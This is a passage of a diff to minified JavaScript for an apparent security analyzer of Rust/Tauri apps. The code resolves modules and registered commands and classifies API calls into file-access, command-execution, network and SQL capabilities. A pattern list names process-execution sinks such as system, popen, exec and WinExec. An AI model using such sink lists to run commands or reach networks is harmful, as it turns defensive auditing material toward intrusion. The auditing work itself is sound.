+const walk2=new CodeWalk(project,crate2);return walk2.roots(),walk2.read()}function walkFrom(project,crate2,path){const walk2=new CodeWalk(project,crate2);return walk2.
+go(path,!0,[],(0,import_shared_acegos.topOf)(path)),walk2.read()}var MOST_FILES2=2e4,MOST_GAPS3=50,CodeWalk=class{#project;#crate;#requires=new Map;#gaps=new Map;#beyond=[];#todo=[];constructor(project,crate2){
 this.#project=project,this.#crate=crate2}read(){do{for(let visit=this.#todo.pop();visit!==void 0;visit=this.#todo.pop())this.#visit(visit);this.#broughtByMacros()}while(this.#todo.
 length>0);return{files:[...this.#requires].flatMap(([path,requires])=>{const file2=this.#project.files.get(path);return file2===void 0?[]:[{file:file2,crate:this.#crate.
 folder,requires}]}),named:[...this.#requires.keys()],gaps:this.#told()}}roots(){const{folder,manifest:manifest2}=this.#crate,{contents,files}=this.#project;for(const{
@@ -6492,14 +6518,14 @@ pop();next2!==void 0;next2=left2.pop()){kinds2.has(next2.kind)&&found12.push(nex
 start-b5.start)}function pathOf(written6,node){switch(node.kind){case"identifier":case"type_identifier":case"field_identifier":case"self":case"super":case"crate":case"\
 primitive_type":case"metavariable":return[plain6(textOf5(written6,node))];case"scoped_identifier":case"scoped_type_identifier":{const[path,name]=[fieldOf(node,"\
 path"),fieldOf(node,"name")];return[...path===void 0?[]:pathOf(written6,path),...name?pathOf(written6,name):[]]}case"generic_type":case"generic_type_with_turbof\
-ish":case"reference_type":{const type=fieldOf(node,"type");return type===void 0?[]:pathOf(written6,type)}case"generic_function":{const called3=fieldOf(node,"fun\
-ction");return called3===void 0?[]:pathOf(written6,called3)}case"bracketed_type":{const[inner]=node.children;return inner===void 0?[]:pathOf(written6,inner)}case"\
+ish":case"reference_type":{const type=fieldOf(node,"type");return type===void 0?[]:pathOf(written6,type)}case"generic_function":{const called4=fieldOf(node,"fun\
+ction");return called4===void 0?[]:pathOf(written6,called4)}case"bracketed_type":{const[inner]=node.children;return inner===void 0?[]:pathOf(written6,inner)}case"\
 qualified_type":{const type=fieldOf(node,"type");return type===void 0?[]:pathOf(written6,type)}default:return[]}}function plain6(name){return name.startsWith("r\
 #")?name.slice(2):name}function literalIn(written6,node){if(node===void 0)return;if(node.kind==="string_literal"||node.kind==="raw_string_literal")return node.children.
 map(child=>textOf5(written6,child)).join("");if(node.kind==="reference_expression"||node.kind==="parenthesized_expression")return literalIn(written6,node.children.
-at(-1));const called3=node.kind==="call_expression"?fieldOf(node,"function"):void 0;if(called3?.kind==="field_expression"&&SAME_TEXT.has(lastOf2(written6,called3)))
-return literalIn(written6,fieldOf(called3,"value"));const[only2,...more]=fieldOf(node,"arguments")?.children??[];return called3!==void 0&&/^(?:String|PathBuf|OsString|Path|Some)(?:::|$)/.
-test(pathOf(written6,called3).join("::"))&&more.length===0?literalIn(written6,only2):void 0}var SAME_TEXT=new Set("to_string to_owned into as_str clone as_ref t\
+at(-1));const called4=node.kind==="call_expression"?fieldOf(node,"function"):void 0;if(called4?.kind==="field_expression"&&SAME_TEXT.has(lastOf2(written6,called4)))
+return literalIn(written6,fieldOf(called4,"value"));const[only2,...more]=fieldOf(node,"arguments")?.children??[];return called4!==void 0&&/^(?:String|PathBuf|OsString|Path|Some)(?:::|$)/.
+test(pathOf(written6,called4).join("::"))&&more.length===0?literalIn(written6,only2):void 0}var SAME_TEXT=new Set("to_string to_owned into as_str clone as_ref t\
 o_string_lossy".split(" "));function lastOf2(written6,{children}){const name=children.find(({field:field3})=>field3==="field");return name===void 0?"":textOf5(written6,
 name)}var read8=new WeakMap;function codeFile(parser,file2){const ofParser=read8.get(parser)??new WeakMap;read8.set(parser,ofParser);const known13=ofParser.get(
 file2);if(known13!==void 0)return known13;const tree=parser.parse(file2.text),code2="fault"in tree?tree.fault:codeOf4(file2,tree);return ofParser.set(file2,code2),
@@ -6515,17 +6541,17 @@ push({name,owner,modules:modules2,node,attributes:attributes2,file:code2});else 
 has(node.kind))constants.set(name,constantOf(code2,fieldOf(node,"value")));else if(node.kind==="macro_definition")macros.add(name);else if(node.kind==="mod_item"&&
 body!==void 0)items(body,null,[...modules2,name]);else if(node.kind==="trait_item"&&body!==void 0)items(body,name,modules2);else if(node.kind==="impl_item"&&body!==
 void 0){const type=fieldOf(node,"type");items(body,(type&&pathOf(code2,type).at(-1))??"",modules2)}node.kind==="function_item"&&body!==void 0&&items(body,null,modules2)}
-function takeUse(node,before2){if(node.kind==="use_list")for(const child of node.children)takeUse(child,before2);else if(node.kind==="scoped_use_list"){const[path,
-list]=[fieldOf(node,"path"),fieldOf(node,"list")];list!==void 0&&takeUse(list,[...before2,...path?pathOf(code2,path):[]])}else if(node.kind==="use_wildcard"){const[
-path]=node.children;globs2.push([...before2,...path?pathOf(code2,path):[]])}else if(node.kind==="use_as_clause"){const[path,alias]=[fieldOf(node,"path"),fieldOf(
-node,"alias")];path!==void 0&&alias!==void 0&&keep2(textOf5(code2,alias),[...before2,...pathOf(code2,path)])}else{const path=[...before2,...pathOf(code2,node)].
-filter(part=>part!=="self"||before2.length===0);keep2(path.at(-1)??"",path)}}function keep2(name,path){const known13=uses.get(name);known13===void 0?uses.set(name,
+function takeUse(node,before3){if(node.kind==="use_list")for(const child of node.children)takeUse(child,before3);else if(node.kind==="scoped_use_list"){const[path,
+list]=[fieldOf(node,"path"),fieldOf(node,"list")];list!==void 0&&takeUse(list,[...before3,...path?pathOf(code2,path):[]])}else if(node.kind==="use_wildcard"){const[
+path]=node.children;globs2.push([...before3,...path?pathOf(code2,path):[]])}else if(node.kind==="use_as_clause"){const[path,alias]=[fieldOf(node,"path"),fieldOf(
+node,"alias")];path!==void 0&&alias!==void 0&&keep2(textOf5(code2,alias),[...before3,...pathOf(code2,path)])}else{const path=[...before3,...pathOf(code2,node)].
+filter(part=>part!=="self"||before3.length===0);keep2(path.at(-1)??"",path)}}function keep2(name,path){const known13=uses.get(name);known13===void 0?uses.set(name,
 [path]):known13.push(path)}}var CONSTANTS=new Set(["const_item","static_item"]);function constantOf(code2,value){const path=value===void 0?[]:pathOf(code2,value);
 return{literal:literalIn(code2,value)??null,path:path.length>0?path:null}}function isForTests(code2,item){const{path,arguments:given2}=attributeOf(code2,item);return path.
 at(-1)==="cfg"&&/^\(\s*test\s*\)$/.test(given2)}function moduleAround(code2,inline,{start,end}){const around2=inline.findLast(each=>each.start<=start&&end<=each.
-end),name=around2===void 0?void 0:fieldOf(around2,"name");return name===void 0?moduleName(code2.file.path):textOf5(code2,name)}function moduleName(path){const parts=path.
-replace(/\.rs$/,"").split("/"),last=parts.at(-1)??"";return last==="mod"?parts.at(-2)??"":last}function attributeOf(code2,item){const attribute2=childOf(item,"a\
-ttribute"),[first]=attribute2?.children??[],given2=attribute2===void 0?void 0:fieldOf(attribute2,"arguments");return{path:first===void 0?[]:pathOf(code2,first),
+end),name=around2===void 0?void 0:fieldOf(around2,"name");return name===void 0?moduleName(code2.file.path):textOf5(code2,name)}function moduleName(path){const parts2=path.
+replace(/\.rs$/,"").split("/"),last=parts2.at(-1)??"";return last==="mod"?parts2.at(-2)??"":last}function attributeOf(code2,item){const attribute2=childOf(item,
+"attribute"),[first]=attribute2?.children??[],given2=attribute2===void 0?void 0:fieldOf(attribute2,"arguments");return{path:first===void 0?[]:pathOf(code2,first),
 arguments:given2===void 0?"":textOf5(code2,given2)}}var DECLARED2=/\b(?:fn|struct|enum|union|trait|type|const|static|macro_rules!)\s+(?:r#|mut\s+)?([A-Za-z_]\w*)|\bas\s+([A-Za-z_]\w*)\s*[,;}]|\bpub(?:\([^)]*\))?\s+use\s+([^;]*);/g,
 known4=new WeakMap;function declaredIn2(file2){const names4=known4.get(file2)??namesIn6(file2.text);return known4.set(file2,names4),names4}function namesIn6(text3){
 const names4=new Set;for(const[,item,alias,exported]of text3.matchAll(DECLARED2)){const name=item??alias;name!==void 0&&names4.add(name);for(const[word2]of exported?.
@@ -6535,45 +6561,46 @@ matchAll(/\w+/g)??[])names4.add(word2)}return names4}var modules=new WeakMap;fun
 holding=new Map;for(const file2 of files)for(const name of declaredIn2(file2)){const known13=holding.get(name);known13===void 0?holding.set(name,[file2]):known13.
 push(file2)}const treeOf=file2=>{const code2=codeFile(parser,file2);if(typeof code2!="string")return code2;unread4.set(file2.path,code2)},renamed2=new Map;for(const file2 of files)
 for(const[given2,name]of[...movedModules(file2),...includingModules(treeOf,file2)]){const last=given2.split("/").at(-1)??"";renamed2.set(last,(renamed2.get(last)??
-new Set).add(name))}const passing=files.filter(({text:text3})=>PASSES_ALL_ON.test(text3)),declaring2=name=>(holding.get(name)??[]).slice(0,MOST_DECLARING).flatMap(
-file2=>treeOf(file2)??[]),types=remembered2(name=>declaring2(name).flatMap(code2=>code2.types.filter(each=>each.name===name)));return{parser,files,unread:unread4,
-crates:new Set(project.pathCrates.map(({crate:crate2})=>crate2.replaceAll("-","_"))),modules:new Set([...files.map(({path})=>moduleName(path)),...[...renamed2.values()].
-flatMap(each=>[...each])]),isModule:(path,name)=>moduleName(path)===name||(renamed2.get(path.split("/").at(-1)??"")?.has(name)??!1),isIncluded:(path,by)=>renamed2.
-get(path.split("/").at(-1)??"")?.has(moduleName(by.file.path))??!1,file(path){const file2=byPath2.get(path);return file2&&treeOf(file2)},functions:remembered2(name=>declaring2(
-name).flatMap(code2=>code2.functions.filter(each=>each.name===name))),types,exported:name=>declaring2(name).flatMap(code2=>code2.uses.get(name)??[]),aliases:name=>types(
-name).flatMap(({node,file:file2})=>{const aliased=node.kind==="type_item"?fieldOf(node,"type"):void 0;return aliased===void 0?[]:[pathOf(file2,aliased)]}),constants:name=>declaring2(
-name).flatMap(code2=>code2.constants.get(name)??[]),globsOf:remembered2(module2=>passing.flatMap(file2=>treeOf(file2)?.globsOf.get(module2)??[])),isMacro:name=>declaring2(
-name).some(({macros})=>macros.has(name))}}var PASSES_ALL_ON=/\bpub(?:\([^)\n]{0,100}\))?\s+use\s[^;]{0,2000}\*/;function movedModules({text:text3}){return(text3.
-includes("path")?[...text3.matchAll(MOVED)]:[]).map(([,path="",name=""])=>[path,name])}var MOVED=/\bpath\s*=\s*"([^"\n]{1,500})"[^;{}"]{0,500}?\bmod\s+(\w+)/g;function includingModules(treeOf,file2){
+new Set).add(name))}const passing=files.filter(({text:text3})=>PASSES_ALL_ON.test(text3)),declaring2=name=>(holding.get(name)??[]).flatMap(file2=>treeOf(file2)??
+[]),types=remembered2(name=>declaring2(name).flatMap(code2=>called(code2.types,name)));return{parser,files,unread:unread4,crates:new Set(project.pathCrates.map(
+({crate:crate2})=>crate2.replaceAll("-","_"))),modules:new Set([...files.map(({path})=>moduleName(path)),...[...renamed2.values()].flatMap(each=>[...each])]),isModule:(path,name)=>moduleName(
+path)===name||(renamed2.get(path.split("/").at(-1)??"")?.has(name)??!1),isIncluded:(path,by)=>renamed2.get(path.split("/").at(-1)??"")?.has(moduleName(by.file.path))??
+!1,file(path){const file2=byPath2.get(path);return file2&&treeOf(file2)},functions:remembered2(name=>declaring2(name).flatMap(code2=>called(code2.functions,name))),
+types,exported:name=>declaring2(name).flatMap(code2=>code2.uses.get(name)??[]),aliases:name=>types(name).flatMap(({node,file:file2})=>{const aliased=node.kind===
+"type_item"?fieldOf(node,"type"):void 0;return aliased===void 0?[]:[pathOf(file2,aliased)]}),constants:name=>declaring2(name).flatMap(code2=>code2.constants.get(
+name)??[]),globsOf:remembered2(module2=>passing.flatMap(file2=>treeOf(file2)?.globsOf.get(module2)??[])),isMacro:name=>declaring2(name).some(({macros})=>macros.
+has(name))}}var PASSES_ALL_ON=/\bpub(?:\([^)\n]{0,100}\))?\s+use\s[^;]{0,2000}\*/;function movedModules({text:text3}){return(text3.includes("path")?[...text3.matchAll(
+MOVED)]:[]).map(([,path="",name=""])=>[path,name])}var MOVED=/\bpath\s*=\s*"([^"\n]{1,500})"[^;{}"]{0,500}?\bmod\s+(\w+)/g;function includingModules(treeOf,file2){
 const code2=INCLUDES.test(file2.text)?treeOf(file2):void 0;if(code2===void 0)return[];const inline=within2(code2.root,MODULES2);return within2(code2.root,MACROS).
 flatMap(node=>{const[named12,tokens]=[fieldOf(node,"macro"),childOf(node,"token_tree")],path=named12!==void 0&&pathOf(code2,named12).at(-1)==="include"?literalIn(
 code2,tokens?.children[0]):void 0;return path===void 0?[]:[[path,moduleAround(code2,inline,node)]]})}var INCLUDES=/\binclude!/,MACROS=new Set(["macro_invocation"]);
-function remembered2(find3){const known13=new Map;return name=>{const found12=known13.get(name)??find3(name);return known13.set(name,found12),found12}}var MOST_DECLARING=16,
-REGISTERING=new Set(["generate_handler","collect_commands"]),MACROS2=new Set(["macro_invocation"]),TOKENS=new Set(["token_tree"]);function registeringNames(files){
-let names4=REGISTERING;for(let rounds=0;rounds<MOST_ROUNDS2;rounds+=1){const known13=names4,more=files(known13).flatMap(code2=>[...aliasesIn2(code2,known13),...wrappersIn(
-code2,known13)]);if(names4=known13.union(new Set(more)),names4.size===known13.size)break}return names4}var MOST_ROUNDS2=4;function aliasesIn2({uses},names4){return[
-...uses].flatMap(([name,paths3])=>paths3.some(path=>names4.has(path.at(-1)??""))?[name]:[])}function wrappersIn(code2,names4){return within2(code2.root,DEFINITIONS).
-flatMap(node=>{const calls=within2(node,WORDS3).some(each=>names4.has(textOf5(code2,each))),name=fieldOf(node,"name");return calls&&name!==void 0?[textOf5(code2,
-name)]:[]})}var DEFINITIONS=new Set(["macro_definition"]),WORDS3=new Set(["identifier"]);function registrationsIn(code2,names4){const called3=within2(code2.root,
-MACROS2).flatMap(node=>{const[named12,tokens]=[fieldOf(node,"macro"),childOf(node,"token_tree")],name=(named12&&pathOf(code2,named12).at(-1))??"";return names4.
-has(name)&&tokens!==void 0?[[tokens,name]]:[]}),nested=within2(code2.root,TOKENS).flatMap(({children})=>children.flatMap((each,index)=>{const before2=children[index-
-1],name=before2===void 0?"":textOf5(code2,before2);return each.kind==="token_tree"&&names4.has(name)?[[each,name]]:[]})),definitions=within2(code2.root,DEFINITIONS),
-isInside2=({start,end})=>definitions.some(each=>each.start<=start&&end<=each.end),lists=[...new Map([...called3,...nested])].flatMap(([tokens,name])=>{if(isInside2(
-tokens))return[];const isList2=REGISTERING.has(name)||code2.uses.has(name);return[{node:tokens,text:textOf5(code2,tokens).slice(1,-1),isList:isList2}]}),inMacros=definitions.
-map(node=>({node,text:textOf5(code2,node),isList:!1}));return[...lists,...inMacros].flatMap(({node,text:text3,isList:isList2})=>(isList2?pathsIn3(text3):pathsAnywhere(
-text3)).map(path=>({path,code:code2,node,isList:isList2,plugin:pluginAround(code2,node)})))}function pathsAnywhere(text3){return(text3.match(/\w+(?:\s*::\s*\w+)*/g)??
-[]).map(path=>path.replace(/\s+/g,"").split("::"))}function pathsIn3(list){return list.replace(/\/\*[\s\S]*?\*\/|\/\/[^\n]*/g," ").replace(/#\s*\[[^\]]*\]/g," ").
-replace(/(?:::)?\s*<[^<>]*>/g,"").split(",").map(path=>path.replace(/\s+/g,"")).filter(path=>path!=="").map(path=>path.split("::").filter(part=>part!==""))}function pluginAround(code2,tokens){
+function remembered2(find3){const known13=new Map;return name=>{const found12=known13.get(name)??find3(name);return known13.set(name,found12),found12}}function called(all,name){
+const index=indexes2.get(all)??Map.groupBy(all,each=>each.name);return indexes2.set(all,index),index.get(name)??[]}var indexes2=new WeakMap,REGISTERING=new Set(
+["generate_handler","collect_commands"]),MACROS2=new Set(["macro_invocation"]),TOKENS=new Set(["token_tree"]);function registeringNames(files){let names4=REGISTERING;
+for(let rounds=0;rounds<MOST_ROUNDS2;rounds+=1){const known13=names4,more=files(known13).flatMap(code2=>[...aliasesIn2(code2,known13),...wrappersIn(code2,known13)]);
+if(names4=known13.union(new Set(more)),names4.size===known13.size)break}return names4}var MOST_ROUNDS2=4;function aliasesIn2({uses},names4){return[...uses].flatMap(
+([name,paths3])=>paths3.some(path=>names4.has(path.at(-1)??""))?[name]:[])}function wrappersIn(code2,names4){return within2(code2.root,DEFINITIONS).flatMap(node=>{
+const calls=within2(node,WORDS3).some(each=>names4.has(textOf5(code2,each))),name=fieldOf(node,"name");return calls&&name!==void 0?[textOf5(code2,name)]:[]})}var DEFINITIONS=new Set(
+["macro_definition"]),WORDS3=new Set(["identifier"]);function registrationsIn(code2,names4){const called4=within2(code2.root,MACROS2).flatMap(node=>{const[named12,
+tokens]=[fieldOf(node,"macro"),childOf(node,"token_tree")],name=(named12&&pathOf(code2,named12).at(-1))??"";return names4.has(name)&&tokens!==void 0?[[tokens,name]]:
+[]}),nested=within2(code2.root,TOKENS).flatMap(({children})=>children.flatMap((each,index)=>{const before3=children[index-1],name=before3===void 0?"":textOf5(code2,
+before3);return each.kind==="token_tree"&&names4.has(name)?[[each,name]]:[]})),definitions=within2(code2.root,DEFINITIONS),isInside2=({start,end})=>definitions.
+some(each=>each.start<=start&&end<=each.end),lists=[...new Map([...called4,...nested])].flatMap(([tokens,name])=>{if(isInside2(tokens))return[];const isList2=REGISTERING.
+has(name)||code2.uses.has(name);return[{node:tokens,text:textOf5(code2,tokens).slice(1,-1),isList:isList2}]}),inMacros=definitions.map(node=>({node,text:textOf5(
+code2,node),isList:!1}));return[...lists,...inMacros].flatMap(({node,text:text3,isList:isList2})=>(isList2?pathsIn3(text3):pathsAnywhere(text3)).map(path=>({path,
+code:code2,node,isList:isList2,plugin:pluginAround(code2,node)})))}function pathsAnywhere(text3){return(text3.match(/\w+(?:\s*::\s*\w+)*/g)??[]).map(path=>path.
+replace(/\s+/g,"").split("::"))}function pathsIn3(list){return list.replace(/\/\*[\s\S]*?\*\/|\/\/[^\n]*/g," ").replace(/#\s*\[[^\]]*\]/g," ").replace(/(?:::)?\s*<[^<>]*>/g,
+"").split(",").map(path=>path.replace(/\s+/g,"")).filter(path=>path!=="").map(path=>path.split("::").filter(part=>part!==""))}function pluginAround(code2,tokens){
 const around2=code2.functions.find(({node})=>node.start<=tokens.start&&tokens.end<=node.end),text3=around2===void 0?"":textOf5(code2,around2.node),[,named12,constant]=/\bBuilder(?:::)?(?:<[^()]*>)?::new\(\s*(?:"([^"]*)"|([A-Z_]+))/.
 exec(text3)??[];return named12!==void 0?named12:constant===void 0?null:new RegExp(`\\b${constant}\\b[^=;]*=\\s*"([^"]*)"`).exec(code2.text)?.[1]??null}function registeredCommands(app){
 const filesWith=words4=>{const sought=[...words4];return app.files.filter(({text:text3})=>sought.some(name=>text3.includes(name))).flatMap(({path})=>app.file(path)??
-[])},names4=registeringNames(filesWith),registered=filesWith([...names4,"macro_rules"]).flatMap(code2=>registrationsIn(code2,names4)),byName3=new Map;for(const registration of registered){
-const{path,plugin,isList:isList2}=registration,last=path.at(-1)??"",name=plugin===null?last:`plugin:${plugin}|${last}`,known13=byName3.get(name),meant=functionsOf(
-app,registration);if(!isList2&&!meant.some(isCommand))continue;const functions2=[...new Set([...known13?.functions??[],...meant])];byName3.set(name,{name,registration:known13?.
-registration??registration,functions:functions2})}return[...byName3.values()]}function functionsOf(app,{path,code:code2,node}){const all=app.functions(path.at(-1)??
+[])},names4=registeringNames(filesWith),registered=filesWith([...names4,"macro_rules"]).flatMap(code2=>registrationsIn(code2,names4)),byName4=new Map;for(const registration of registered){
+const{path,plugin,isList:isList2}=registration,last=path.at(-1)??"",name=plugin===null?last:`plugin:${plugin}|${last}`,known13=byName4.get(name),meant=functionsOf(
+app,registration);if(!isList2&&!meant.some(isCommand))continue;const functions2=[...new Set([...known13?.functions??[],...meant])];byName4.set(name,{name,registration:known13?.
+registration??registration,functions:functions2})}return[...byName4.values()]}function functionsOf(app,{path,code:code2,node}){const all=app.functions(path.at(-1)??
 "").filter(({owner})=>owner===null),marked=all.filter(isCommand),named12=marked.length>0?marked:all.filter(({attributes:attributes2})=>attributes2.length>0);if(named12.
-length<2)return named12;const before2=path.at(-2),around2=modulesAround(code2,node),near=named12.filter(({file:file2,modules:modules2})=>before2===void 0||OWN.has(
-before2)?file2===code2&&modules2.join("::")===around2:moduleName(file2.file.path)===before2||modules2.at(-1)===before2||file2.file.path.includes(`/${before2}/`));
+length<2)return named12;const before3=path.at(-2),around2=modulesAround(code2,node),near=named12.filter(({file:file2,modules:modules2})=>before3===void 0||OWN.has(
+before3)?file2===code2&&modules2.join("::")===around2:moduleName(file2.file.path)===before3||modules2.at(-1)===before3||file2.file.path.includes(`/${before3}/`));
 return near.length>0?near:named12}function modulesAround({functions:functions2},{start,end}){return functions2.find(({node})=>node.start<=start&&end<=node.end)?.
 modules.join("::")??""}var OWN=new Set(["crate","self","super"]);function isCommand({file:file2,attributes:attributes2}){return attributes2.some(each=>isCommandAttribute(
 file2,each))}function isCommandAttribute(file2,item){const{path,arguments:given2}=attributeOf(file2,item);if(path[0]==="cfg_attr")return/\bcommand\b/.test(given2);
@@ -6586,7 +6613,7 @@ name,node,attributes:attributes2,file:file2}){const text3=[...attributes2,node].
 `),byHand=["deserialize","from_command","from_str","try_from","from"].flatMap(method=>isReader(method,text3)?app.functions(method).filter(({owner})=>owner===name):
 []),named12=[...text3.matchAll(/\b(?:deserialize_with|with)\s*=\s*"([^"\n]{1,300})"/g)];return[...byHand,...named12.flatMap(([,path=""])=>functionsNamed(app,path.
 split("::")))]}function isReader(method,text3){return method==="deserialize"||method==="from_command"?!0:/\b(?:try_)?from\s*=|\bDeserializeFromStr\b/.test(text3)}
-function functionsNamed(app,path){const[last="",before2]=path.toReversed(),own=app.functions(last).filter(({owner})=>owner===null||owner===before2),inModule=app.
+function functionsNamed(app,path){const[last="",before3]=path.toReversed(),own=app.functions(last).filter(({owner})=>owner===null||owner===before3),inModule=app.
 functions("deserialize").filter(({modules:modules2,file:file2})=>modules2.at(-1)===last||moduleName(file2.file.path)===last);return[...own,...inModule]}var EVENT={
 kind:"event",callers:"own-pages",named:0,handler:1,parameter:0,input:"payload"},SCHEME={kind:"scheme",callers:"own-pages",named:0,handler:1,parameter:1,input:"r\
 equest"},ADDRESS3={kind:"handler",callers:"own-pages",named:null,handler:0,parameter:0,input:"url"},METHODS=new Map([...["listen","listen_any","listen_global","\
@@ -6595,30 +6622,38 @@ tion",ADDRESS3],["on_new_window",ADDRESS3],["on_page_load",{...ADDRESS3,paramete
 ...ADDRESS3,callers:"web"}]]),MENTIONED=new RegExp(`\\b(?:${[...METHODS.keys()].join("|")})\\b`),CALLS=new Set(["call_expression"]);function doorsIn(app,touched){
 const found12=app.files.filter(({path,text:text3})=>touched.has(path)&&MENTIONED.test(text3)).flatMap(({path})=>app.file(path)??[]).flatMap(code2=>within2(code2.
 root,CALLS).flatMap(node=>doorAt(code2,node)??[]));return[...Map.groupBy(found12,({kind,name})=>`${kind} ${name}`).values()].flatMap(([first,...others])=>{if(first===
-void 0)return[];const[call2]=first.calls;return[{...first,calls:[call2,...others.flatMap(({calls})=>calls)]}]})}function doorAt(code2,node){const called3=fieldOf(
-node,"function"),method=called3?.kind==="generic_function"?fieldOf(called3,"function"):called3,field3=method?.kind==="field_expression"?fieldOf(method,"field"):
+void 0)return[];const[call2]=first.calls;return[{...first,calls:[call2,...others.flatMap(({calls})=>calls)]}]})}function doorAt(code2,node){const called4=fieldOf(
+node,"function"),method=called4?.kind==="generic_function"?fieldOf(called4,"function"):called4,field3=method?.kind==="field_expression"?fieldOf(method,"field"):
 void 0,name=field3===void 0?"":textOf5(code2,field3),row=METHODS.get(name),given2=fieldOf(node,"arguments")?.children??[],handler=row===void 0?void 0:given2[row.
 handler];if(row===void 0||handler===void 0||field3===void 0)return;const{kind,callers,named:named12,parameter,input}=row,naming=named12===null?void 0:given2[named12],
 written6=naming===void 0?name:literalIn(code2,naming)??textOf5(code2,naming),call2={code:code2,node:field3,handler,parameter,input};return{kind,callers,name:written6.
-slice(0,LONGEST_NAME),calls:[call2]}}var LONGEST_NAME=100,FUNCTIONS=[["read-files",0,"fs::read fs::read_to_string fs::read_dir fs::read_link File::open NamedFil\
-e::open image::open"],["read-files",0,"ImageReader::open WalkDir::new WalkBuilder::new Reader::from_path Mmap::open fs::copy"],["read-files",0,"glob::glob glob:\
-:glob_with libc::open libc::fopen libc::opendir dir::get_dir_content"],["read-files",0,"dir::copy dir::move_dir file::copy file::move_file"],["change-files",0,"\
-fs::write fs::create_dir fs::create_dir_all fs::remove_file fs::remove_dir fs::remove_dir_all"],["change-files",0,"fs::rename fs::set_permissions File::create F\
-ile::create_new trash::delete Writer::from_path"],["change-files",1,"fs::rename fs::copy fs::hard_link fs::symlink fs::soft_link fs::symlink_file fs::symlink_di\
-r"],["change-files",0,"Connection::open SqliteConnection::open remove_dir_all::remove_dir_all"],["change-files",0,"SqlitePool::connect SqlitePool::connect_lazy \
-SqliteConnectOptions::from_str"],["change-files",0,"dir::create dir::create_all dir::remove file::write_all file::remove libc::creat"],["change-files",0,"libc::\
-unlink libc::rmdir libc::mkdir libc::rename trash::delete_all"],["change-files",0,"Database::create sled::open"],["change-files",1,"StoreBuilder::new"],["change\
--files",1,"dir::copy dir::move_dir file::copy file::move_file libc::rename"],["run",0,"Command::new open::that open::that_detached open::that_in_background open\
-::with open::with_detached"],["run",0,"opener::open opener::open_browser tauri_plugin_opener::open_path tauri_plugin_opener::open_url"],["run",0,"webbrowser::op\
-en Library::new api::shell::open Command::new_sidecar CommandBuilder::new cmd::new"],["run",0,"Library::open open::commands duct::cmd Exec::cmd Exec::shell exec\
-ute::shell execute::command"],["run",0,"env::set_var powershell_script::run run_script::run run_script::run_script run_script::spawn"],["run",1,"shell::open ope\
-n::with open::with_detached"],["run",1,"tauri_plugin_opener::open_path tauri_plugin_opener::open_url"],["network",0,"reqwest::get blocking::get ureq::get ureq::\
-post ureq::put ureq::delete ureq::patch ureq::head"],["network",0,"minreq::get minreq::post attohttpc::get attohttpc::post surf::get surf::post isahc::get ureq:\
-:request"],["network",0,"TcpStream::connect UnixStream::connect tokio_tungstenite::connect_async tungstenite::connect connect::connect_async"],["network",0,"Req\
-uest::get Request::post Request::put Request::delete Request::patch Request::head"],["network",0,"isahc::get_async isahc::post isahc::post_async Proxy::all Prox\
-y::http Proxy::https"],["network",0,"PgPool::connect MySqlPool::connect AnyPool::connect Database::connect"],["network",1,"Request::new ureq::request"],["window",
-0,"WebviewUrl::External WindowUrl::External WebviewUrl::CustomProtocol"],["window",0,"WebviewUrl::App WindowUrl::App"],["sql",0,"sqlx::query sqlx::query_as sqlx\
-::query_scalar sqlx::raw_sql diesel::sql_query dsl::sql_query"],["sql",0,"QueryBuilder::new QueryBuilder::with_arguments"]],FUNCTIONS_OF_ANY=[[/^(?:system|popen|exec[lv]\w{0,2}|posix_spawnp?|dlopen|sh_dangerous|WinExec)$/,
+slice(0,LONGEST_NAME),calls:[call2]}}var LONGEST_NAME=100,WRAPPERS=new Set("Result Option Arc Rc Box State Mutex RwLock RefCell Cow Pin MutexGuard".split(" "));
+function isWrapper(name){return name!==void 0&&WRAPPERS.has(name)}function typeNameOf({file:file2,owner,node}){const type=fieldOf(node,"return_type"),name=type===
+void 0?null:innerName(file2,type);return name==="Self"?owner:name}function innerName(file2,type){const name=pathOf(file2,type).at(-1)??null,inner=type.kind==="r\
+eference_type"?fieldOf(type,"type"):type,given2=inner===void 0?void 0:childOf(inner,"type_arguments"),[first]=given2?.children.filter(({kind})=>kind!=="lifetime")??
+[];return name!==null&&WRAPPERS.has(name)&&first!==void 0?innerName(file2,first):name}function makesFunction({file:file2,node}){const type=fieldOf(node,"return_\
+type");return type!==void 0&&/\b(?:Fn|FnMut|FnOnce|fn)\s*\(/.test(textOf5(file2,type))}function fieldTypeOf(app,type,field3){if(type===null)return null;for(const{
+node,file:file2}of app.types(type)){const body=fieldOf(node,"body"),at2=/^\d+$/.test(field3)?body?.children.filter(each=>each.field==="type")[Number(field3)]:body?.
+children.flatMap(each=>{const name=fieldOf(each,"name");return name!==void 0&&textOf5(file2,name)===field3?fieldOf(each,"type")??[]:[]})[0];if(at2!==void 0)return innerName(
+file2,at2)}return null}var FUNCTIONS=[["read-files",0,"fs::read fs::read_to_string fs::read_dir fs::read_link File::open NamedFile::open image::open"],["read-fi\
+les",0,"ImageReader::open WalkDir::new WalkBuilder::new Reader::from_path Mmap::open fs::copy"],["read-files",0,"glob::glob glob::glob_with libc::open libc::fop\
+en libc::opendir dir::get_dir_content"],["read-files",0,"dir::copy dir::move_dir file::copy file::move_file"],["change-files",0,"fs::write fs::create_dir fs::cr\
+eate_dir_all fs::remove_file fs::remove_dir fs::remove_dir_all"],["change-files",0,"fs::rename fs::set_permissions File::create File::create_new trash::delete W\
+riter::from_path"],["change-files",1,"fs::rename fs::copy fs::hard_link fs::symlink fs::soft_link fs::symlink_file fs::symlink_dir"],["change-files",0,"Connecti\
+on::open SqliteConnection::open remove_dir_all::remove_dir_all"],["change-files",0,"SqlitePool::connect SqlitePool::connect_lazy SqliteConnectOptions::from_str"],
+["change-files",0,"dir::create dir::create_all dir::remove file::write_all file::remove libc::creat"],["change-files",0,"libc::unlink libc::rmdir libc::mkdir li\
+bc::rename trash::delete_all"],["change-files",0,"Database::create sled::open"],["change-files",1,"StoreBuilder::new"],["change-files",1,"dir::copy dir::move_di\
+r file::copy file::move_file libc::rename"],["run",0,"Command::new open::that open::that_detached open::that_in_background open::with open::with_detached"],["ru\
+n",0,"opener::open opener::open_browser tauri_plugin_opener::open_path tauri_plugin_opener::open_url"],["run",0,"webbrowser::open Library::new api::shell::open \
+Command::new_sidecar CommandBuilder::new cmd::new"],["run",0,"Library::open open::commands duct::cmd Exec::cmd Exec::shell execute::shell execute::command"],["r\
+un",0,"env::set_var powershell_script::run run_script::run run_script::run_script run_script::spawn"],["run",1,"shell::open open::with open::with_detached"],["r\
